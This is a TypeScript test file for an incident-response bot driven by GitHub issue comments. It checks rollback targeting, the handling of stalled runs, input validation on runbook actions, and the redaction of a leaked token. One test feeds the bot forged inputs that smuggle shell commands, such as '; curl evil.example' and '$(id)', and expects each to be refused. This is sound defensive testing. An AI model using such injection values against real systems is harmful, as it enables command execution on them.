// What a person must see when mitigation is not the usual case: the suspect is not the newest deployment, nothing good is left, nothing begins; and actions of the runbook (S004-12; AC-26).
import { afterEach, describe, expect, test } from 'vitest';
import { type Story, type StoryOptions, startStory } from '../support/story.ts';
import { readAll } from '../support/visible.ts';

let story: Story;
let issue = 0;
afterEach(() => story.end());

const body = 'Started: 2026-11-21T07:50:00Z\\nStatus: Investigating';
const file = 'rollback-production.yml';
const shop = '/repos/acme/shop';

async function declared(options: StoryOptions = {}): Promise<void> {
  story = await startStory(options);
  issue = await story.declare({ body, labels: ['incident', 'P0'] });
  await readAll(story, issue);
}

type Run = {
  readonly id: number;
  readonly display_title: string;
  readonly status: string;
  readonly conclusion: string | null;
};

async function runs(): Promise<readonly Run[]> {
  const { data } = await story.api('lead', 'GET', `${shop}/actions/workflows/${file}/runs`);
  return (data as { workflow_runs: readonly Run[] }).workflow_runs;
}

async function run(how: object): Promise<void> {
  const [newest] = await runs();
  await story.control('POST', `runs/${newest?.id}`, how);
  await story.settle();
}

async function shas(): Promise<readonly string[]> {
  const { data } = await story.api('lead', 'GET', `${shop}/deployments?environment=production`);
  return (data as readonly { sha: string }[]).map(({ sha }) => sha);
}

async function deploy(ref: string): Promise<void> {
  const made = { ref, environment: 'production', auto_merge: false, required_contexts: [] };
  const { data } = await story.api('lead', 'POST', `${shop}/deployments`, made);
  await story.api('lead', 'POST', `${shop}/deployments/${(data as { id: number }).id}/statuses`, { state: 'success' });
}

const inputs = `inputs: [{ id: sha, pattern: "[0-9a-f]{40}" }, { id: environment, kind: choice, choices: [production] }]`;
const catalogue = `preset: github
people: { devops: ["@acme/on-call"] }
mitigations:
  - { id: restart, title: Restart services, when: A process crashed, workflow: ${file}, ${inputs} }
`;

describe('a rollback whose target is not the usual one', () => {
  test('the suspect is not the newest deployment: it goes back before the suspect, not to it', async () => {
    await declared({ history: true });
    const [bad, good] = await shas();
    await story.later('PT20M');
    await readAll(story, issue);
    const { data } = await story.api('lead', 'GET', `${shop}/contents/README.md`);
    const { sha } = data as { sha: string };
    const change = { message: 'Say where to ask', content: Buffer.from('Ask us.\n').toString('base64'), sha };
    await story.api('lead', 'PUT', `${shop}/contents/README.md`, change);
    await deploy('main');
    await story.say('responder', '/rollback');
    await readAll(story, issue);
    expect(bad).not.toBe(good);
    const planned = /`?\/confirm ([0-9a-f]{7})/.exec(await story.card(issue))?.[1];
    if (planned !== undefined) await story.say('lead', `/confirm ${planned}`);
    await readAll(story, issue);
    expect((await runs())[0]?.display_title).toContain(`to ${good} `);
  });

  test('no good deployment is left: what is live, what was looked for, and what to do', async () => {
    await declared();
    await deploy('main');
    await story.say('responder', '/rollback');
    expect(await story.nextComment()).toMatch(
      /No earlier version of `production` is known to be good.*Deploy a version by hand/s,
    );
    expect(await runs()).toEqual([]);
  });

  test('by releases, the running rollout is stopped first, and it takes ten requests at most', async () => {
    const policy = `${catalogue}rollback: { from: releases, freeze_first: true, deploy_workflow: ${file} }\n`;
    await declared({ history: true, policy });
    const inputsOf = { sha: (await shas())[0] ?? '', environment: 'production' };
    await story.api('lead', 'POST', `${shop}/actions/workflows/${file}/dispatches`, { ref: 'main', inputs: inputsOf });
    await story.settle();
    await run({ status: 'in_progress' });
    await story.requests();
    await story.say('responder', '/rollback');
    const asked = (await story.requests()).map(({ route }) => route);
    const started = asked.findIndex((route) => route.includes('/dispatches'));
    expect(started, asked.join('\n')).toBeGreaterThan(-1);
    expect(started + 1, asked.join('\n')).toBeLessThanOrEqual(10);
    expect(asked.slice(0, started).some((route) => route.endsWith('/cancel'))).toBe(true);
    expect(await story.nextComment()).toContain(`Runs of \`${file}\` that are under way are cancelled first`);
    expect(await runs()).toHaveLength(2);
  });
});

test('a run that never begins: the card says so and why, /cancel ends it, and another may begin', async () => {
  await declared({ history: true });
  await story.say('responder', '/rollback');
  await readAll(story, issue);
  await story.later('PT6M');
  expect(await story.card(issue)).toMatch(/has not begun for 5 minutes: it waits for a runner/);
  await story.say('lead', '/cancel');
  await readAll(story, issue);
  await story.later('PT15S');
  expect((await runs())[0]).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
  await readAll(story, issue);
  expect(await story.card(issue)).toContain(': cancelled**');
  await story.say('responder', '/rollback');
  await readAll(story, issue);
  expect(await runs()).toHaveLength(2);
});

test('an action: forged inputs never begin, typed ones wait for a word, and the run is followed (S004-12)', async () => {
  await declared({ history: true, policy: catalogue });
  const [, good = ''] = await shas();
  for (const [at, forged] of [
    '/rollback production to="v1\\";curl evil.example"',
    `/run restart sha=${good} environment=production ref=evil`,
    `/run restart sha="${good};curl evil.example" environment=production`,
    '/run restart sha=$(id) environment=production',
    `/run restart sha=${good} environment=staging`,
    `/run restart sha=${good} environment=production key=firebreak-1-1`,
  ].entries()) {
    await story.say(at % 2 === 0 ? 'lead' : 'commander', forged);
    expect(await story.nextComment(), forged).toMatch(/was not done/);
  }
  await story.say('visitor', `/run restart sha=${good} environment=production`);
  await readAll(story, issue);
  expect(await runs()).toEqual([]);

  await story.say('responder', `/run restart sha=${good} environment=production because="the pool is stuck"`);
  expect(await story.nextComment()).toContain(`\`sha=${good}\`, \`environment=production\``);
  const code = /`?\/confirm ([0-9a-f]{7})/.exec(await story.card())?.[1];
  await story.say('visitor', `/confirm ${code}`);
  await readAll(story, issue);
  expect(await runs()).toEqual([]);
  const confirmed = await story.say('lead', `/confirm ${code}`);
  expect(await story.nextComment()).toContain('Running: Restart services');
  expect((await runs())[0]?.display_title).toBe(`Roll back production to ${good} (firebreak-${issue}-${confirmed})`);
  await run({ status: 'in_progress' });
  expect(await story.card()).toContain('**Action Restart services: running**');
  await run({ status: 'completed', conclusion: 'success' });
  await story.later('PT15S');
  expect(await story.nextComment()).toMatch(/^@lead \*\*Action Restart services: done\.\*\*/);
  expect(await story.card()).toContain('· mitigating ·');
});

test('a credential in a comment is answered once with how to renew it, and is in nothing that the server says or keeps', async () => {
  await declared();
  const value = ['gh', 'p_', 'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1b2C'].join('');
  const leaked = await story.say('responder', `/update The new token ${value} works eta=5m`);
  expect(await story.nextComment()).toMatch(/seems to contain a token of GitHub.*revoke it under Settings/s);
  expect(await story.reactions(leaked)).toEqual(['confused']);
  await story.app.kill();
  await story.app.start();
  await story.later('PT1M');
  const ours = (await story.comments()).filter(({ id }) => id !== leaked);
  expect(JSON.stringify(ours)).not.toContain(value.slice(4, 20));
  expect(story.app.output()).not.toContain(value.slice(4, 20));
  await readAll(story, issue);
});
